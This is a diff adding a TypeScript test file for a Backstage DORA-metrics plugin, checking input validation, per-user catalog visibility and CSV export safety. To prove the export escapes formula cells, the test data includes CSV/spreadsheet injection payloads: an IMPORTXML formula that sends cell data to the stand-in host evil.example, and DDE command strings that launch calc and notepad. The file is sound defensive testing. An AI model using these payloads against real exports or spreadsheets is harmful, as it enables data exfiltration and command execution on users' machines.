@@ -1,0 +1,372 @@
+import type { AddressInfo } from 'node:net';
+import type { Entity } from '@backstage/catalog-model';
+import {
+  mockCredentials,
+  mockServices,
+  startTestBackend,
+  TestDatabases,
+} from '@backstage/backend-test-utils';
+import { doraPlugin } from './plugin';
+import { catalogAsSeenByFactory } from './testUtils/catalogAsSeenBy';
+
+jest.setTimeout(60_000);
+
+const component = (name: string, owner: string, alias?: string): Entity => ({
+  apiVersion: 'backstage.io/v1alpha1',
+  kind: 'Component',
+  metadata: {
+    name,
+    namespace: 'default',
+    annotations: alias ? { 'paved.dev/dora-service': alias } : {},
+  },
+  spec: { type: 'service', owner, lifecycle: 'production' },
+  relations: [{ type: 'ownedBy', targetRef: `group:default/${owner}` }],
+});
+
+// (No colon: a service name with one is read as an entity ref.)
+const MALICIOUS_SERVICE = '=IMPORTXML(CONCAT("evil.example/?q=",A2),"//a")';
+
+const entities: Entity[] = [
+  component('checkout-service', 'checkout'),
+  component('secret-service', 'checkout'),
+  component('formula-service', 'checkout', MALICIOUS_SERVICE),
+  {
+    apiVersion: 'backstage.io/v1alpha1',
+    kind: 'Group',
+    metadata: { name: 'checkout', namespace: 'default' },
+    spec: { type: 'team', children: [] },
+  },
+];
+
+const OUTSIDER = 'user:default/outsider';
+const TEAMMATE = 'user:default/teammate';
+
+const deployment = (
+  id: string,
+  service: string,
+  finishedAt: string,
+  extra = {},
+) => ({
+  type: 'deployment',
+  id,
+  service,
+  environment: 'production',
+  status: 'success',
+  startedAt: '2026-10-01T09:00:00Z',
+  finishedAt,
+  commitSha: 'abc1234',
+  ...extra,
+});
+
+const WINDOW = 'from=2026-10-01T00:00:00Z&to=2026-10-31T00:00:00Z';
+
+/** A minimal RFC 4180 reader, to look at the cells a spreadsheet would see. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') {
+        quoted = false;
+      } else {
+        cell += c;
+      }
+    } else if (c === '"') {
+      quoted = true;
+    } else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else {
+      cell += c;
+    }
+  }
+  return rows;
+}
+
+describe('DORA reads', () => {
+  const databases = TestDatabases.create({ ids: ['SQLITE_3'] });
+
+  async function startBackend() {
+    const knex = await databases.init('SQLITE_3');
+    const backend = await startTestBackend({
+      features: [
+        doraPlugin,
+        mockServices.database.factory({ knex }),
+        catalogAsSeenByFactory(entities, {
+          [OUTSIDER]: ['component:default/secret-service'],
+        }),
+      ],
+    });
+    const { port } = backend.server.address() as AddressInfo;
+    const get = async (path: string, user = TEAMMATE) => {
+      const res = await fetch(`http://localhost:${port}/api/dora${path}`, {
+        headers: { authorization: mockCredentials.user.header(user) },
+      });
+      const text = await res.text();
+      let body;
+      try {
+        body = JSON.parse(text);
+      } catch {
+        body = text;
+      }
+      return { status: res.status, body, text };
+    };
+    const post = async (events: unknown[]) => {
+      const res = await fetch(`http://localhost:${port}/api/dora/events`, {
+        method: 'POST',
+        headers: {
+          'content-type': 'application/json',
+          authorization: mockCredentials.user.header('user:default/ci-bot'),
+        },
+        body: JSON.stringify({ events }),
+      });
+      expect(res.status).toBe(200);
+    };
+    return { backend, knex, get, post };
+  }
+
+  describe('bounds', () => {
+    const refused: Array<[string, RegExp]> = [
+      ['/metrics?from=2026-10-01', /^from must be an ISO-8601 timestamp/],
+      [
+        '/metrics?from=2026-10-01T00:00:00Z&to=2026-10-31T00:00:00',
+        /^to must be an ISO-8601 timestamp with an offset/,
+      ],
+      // An unencoded + arrives as a space.
+      [
+        '/metrics?from=2026-10-01T00:00:00+02:00',
+        /^from must be .*write the \+ of the offset as %2B/,
+      ],
+      [
+        '/metrics?from=2026-02-30T00:00:00Z&to=2026-03-31T00:00:00Z',
+        /^from is not a date and time that exists/,
+      ],
+      [
+        '/metrics?from=2026-10-31T00:00:00Z&to=2026-10-01T00:00:00Z',
+        /^from \(2026-10-31T00:00:00.000Z\) must be before to/,
+      ],
+      [
+        '/metrics?from=2024-10-01T00:00:00Z&to=2026-10-03T00:00:00Z',
+        /longer than 731 days/,
+      ],
+      [
+        '/series?from=0001-01-01T00:00:00Z&to=9999-12-31T23:59:59Z&metric=deploymentFrequency&interval=day',
+        /longer than 731 days/,
+      ],
+      [`/metrics?${WINDOW}&entityRef=api:default/orders`, /not a api/],
+      [`/metrics?${WINDOW}&entityRef=checkout`, /^entityRef must be/],
+      [
+        `/metrics?${WINDOW}&entityRef=component:default/${'x'.repeat(300)}`,
+        /^entityRef is longer than 255/,
+      ],
+      [`/metrics?${WINDOW}&environment=${'p'.repeat(64)}`, /^environment/],
+      [`/metrics?${WINDOW}&environment=prod%0Auction`, /^environment/],
+      [`/metrics?${WINDOW}&colour=blue`, /^unknown parameter colour/],
+      [
+        '/metrics?from=2026-10-01T00:00:00Z&from=2026-10-02T00:00:00Z',
+        /^from must be given once/,
+      ],
+      [`/breakdown?${WINDOW}&metric=changeFailRate`, /unknown parameter/],
+      [`/series?${WINDOW}&metric=vibes`, /^metric must be one of/],
+      [
+        `/series?${WINDOW}&metric=changeFailRate&interval=hour`,
+        /^interval must be one of day, week, month/,
+      ],
+      [`/deployments?${WINDOW}&filter=odd`, /^filter must be one of/],
+      [`/deployments?${WINDOW}&limit=0`, /^limit must be a whole number/],
+      [`/deployments?${WINDOW}&limit=501`, /^limit must be a whole number/],
+      [`/deployments?${WINDOW}&limit=ten`, /^limit must be a whole number/],
+      [`/deployments?${WINDOW}&cursor=%%%`, /^cursor is not one/],
+      [
+        `/deployments?${WINDOW}&cursor=${Buffer.from('-5').toString(
+          'base64url',
+        )}`,
+        /^cursor is not one/,
+      ],
+      ['/export.csv?to=2026-10-31', /^to must be an ISO-8601 timestamp/],
+      [`/export.csv?${WINDOW}&limit=5`, /^unknown parameter limit/],
+    ];
+
+    it('refuses a bad read with 400 naming what is wrong, without reading the database', async () => {
+      const { backend, knex, get } = await startBackend();
+      try {
+        const queries: string[] = [];
+        const onQuery = (q: { sql: string }) => queries.push(q.sql);
+        knex.on('query', onQuery);
+        for (const [path, message] of refused) {
+          const res = await get(path);
+          expect({ path, status: res.status }).toEqual({ path, status: 400 });
+          expect({ path, message: res.body.error?.message }).toEqual({
+            path,
+            message: expect.stringMatching(message),
+          });
+        }
+        knex.removeListener('query', onQuery);
+        expect(queries).toEqual([]);
+      } finally {
+        await backend.stop();
+      }
+    });
+
+    it('accepts offsets other than Z and the longest window, and bounds the series', async () => {
+      const { backend, get, post } = await startBackend();
+      try {
+        await post([
+          deployment('d1', 'checkout-service', '2026-10-01T10:00:00Z'),
+        ]);
+        const m = await get(
+          '/metrics?entityRef=component:default/checkout-service&from=2026-10-01T02:00:00%2B02:00&to=2026-10-30T19:00:00-05:00',
+        );
+        expect(m.status).toBe(200);
+        expect(m.body).toMatchObject({
+          from: '2026-10-01T00:00:00.000Z',
+          to: '2026-10-31T00:00:00.000Z',
+          deploymentFrequency: { deployments: 1 },
+        });
+
+        // 731 days by day: the most a series can hold is well under 1,000.
+        const series = await get(
+          '/series?entityRef=component:default/checkout-service&from=2024-10-31T00:00:00Z&to=2026-10-31T00:00:00Z&metric=deploymentFrequency&interval=day',
+        );
+        expect(series.status).toBe(200);
+        expect(series.body.points).toHaveLength(730);
+        expect(
+          series.body.points.reduce(
+            (n: number, p: { value: number }) => n + p.value,
+            0,
+          ),
+        ).toBe(1);
+      } finally {
+        await backend.stop();
+      }
+    });
+  });
+
+  it("resolves scopes with the caller's credentials: hidden entities are not found and left out", async () => {
+    const { backend, get, post } = await startBackend();
+    try {
+      await post([
+        deployment('c1', 'checkout-service', '2026-10-01T10:00:00Z'),
+        deployment('s1', 'secret-service', '2026-10-02T10:00:00Z'),
+        deployment('s2', 'secret-service', '2026-10-03T10:00:00Z'),
+      ]);
+      const secret = `entityRef=component:default/secret-service&${WINDOW}`;
+
+      // A teammate who may see the component gets its numbers.
+      const seen = await get(`/metrics?${secret}`, TEAMMATE);
+      expect(seen.status).toBe(200);
+      expect(seen.body.deploymentFrequency.deployments).toBe(2);
+
+      // The outsider may not: every read of it is a 404, with no numbers.
+      for (const path of [
+        `/metrics?${secret}`,
+        `/breakdown?${secret}`,
+        `/series?${secret}&metric=deploymentFrequency`,
+        `/deployments?${secret}`,
+        `/export.csv?${secret}`,
+      ]) {
+        const res = await get(path, OUTSIDER);
+        expect({ path, status: res.status }).toEqual({ path, status: 404 });
+        expect(res.body.error).toEqual({
+          name: 'NotFoundError',
+          message: 'No entity component:default/secret-service in the catalog',
+        });
+        expect(Object.keys(res.body).sort()).toEqual([
+          'error',
+          'request',
+          'response',
+        ]);
+      }
+
+      // The team's numbers leave out what the outsider may not see.
+      const team = `entityRef=group:default/checkout&${WINDOW}`;
+      expect(
+        (await get(`/metrics?${team}`, TEAMMATE)).body.deploymentFrequency
+          .deployments,
+      ).toBe(3);
+      const outsiderTeam = await get(`/metrics?${team}`, OUTSIDER);
+      expect(outsiderTeam.body.deploymentFrequency.deployments).toBe(1);
+      const breakdown = await get(`/breakdown?${team}`, OUTSIDER);
+      expect(
+        breakdown.body.services.map((s: { entityRef: string }) => s.entityRef),
+      ).toEqual([
+        'component:default/checkout-service',
+        'component:default/formula-service',
+      ]);
+      const drillDown = await get(`/deployments?${team}`, OUTSIDER);
+      expect(drillDown.body.items.map((d: { id: string }) => d.id)).toEqual([
+        'c1',
+      ]);
+      expect(drillDown.body.totalItems).toBe(1);
+      const csv = await get(`/export.csv?${team}`, OUTSIDER);
+      expect(csv.text).not.toMatch(/secret-service/);
+
+      // So do the organisation's.
+      const org = await get(`/metrics?${WINDOW}`, OUTSIDER);
+      expect(org.body.deploymentFrequency.deployments).toBe(1);
+      const orgBreakdown = await get(`/breakdown?${WINDOW}`, OUTSIDER);
+      expect(
+        orgBreakdown.body.services.map(
+          (s: { entityRef: string }) => s.entityRef,
+        ),
+      ).toEqual(['component:default/checkout-service']);
+    } finally {
+      await backend.stop();
+    }
+  });
+
+  it('exports CSV a spreadsheet shows as text: no formula cells, hex commit SHAs only', async () => {
+    const { backend, get, post } = await startBackend();
+    try {
+      await post([
+        deployment('=1+1', MALICIOUS_SERVICE, '2026-10-01T10:00:00Z', {
+          commitSha: '=cmd|/C calc!A0',
+        }),
+        deployment(
+          "+cmd|' /C notepad'!A0",
+          'checkout-service',
+          '2026-10-02T10:00:00Z',
+          { commitSha: 'ABCDEF0123456789' },
+        ),
+        deployment('@SUM(1)', 'checkout-service', '2026-10-03T10:00:00Z'),
+        deployment('-2+3', 'checkout-service', '2026-10-04T10:00:00Z'),
+        deployment('\tTAB', 'checkout-service', '2026-10-05T10:00:00Z'),
+        deployment('\rCR', 'checkout-service', '2026-10-06T10:00:00Z'),
+      ]);
+      const res = await get(
+        `/export.csv?entityRef=group:default/checkout&${WINDOW}`,
+      );
+      expect(res.status).toBe(200);
+      const [header, ...rows] = parseCsv(res.text);
+      expect(rows).toHaveLength(6);
+      for (const cell of [...header, ...rows.flat()]) {
+        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      }
+      const column = (name: string) => header.indexOf(name);
+      const byId = new Map(rows.map(r => [r[column('deployment_id')], r]));
+      const formula = byId.get("'=1+1")!;
+      expect(formula[column('service')]).toBe(`'${MALICIOUS_SERVICE}`);
+      expect(formula[column('commit_sha')]).toBe('');
+      expect(byId.get("'+cmd|' /C notepad'!A0")![column('commit_sha')]).toBe(
+        'abcdef0123456789',
+      );
+      expect(byId.get("'@SUM(1)")![column('commit_sha')]).toBe('abc1234');
+      expect([...byId.keys()]).toEqual(
+        expect.arrayContaining(["'-2+3", "'\tTAB", "'\rCR"]),
+      );
+    } finally {
+      await backend.stop();
+    }
+  });
+});
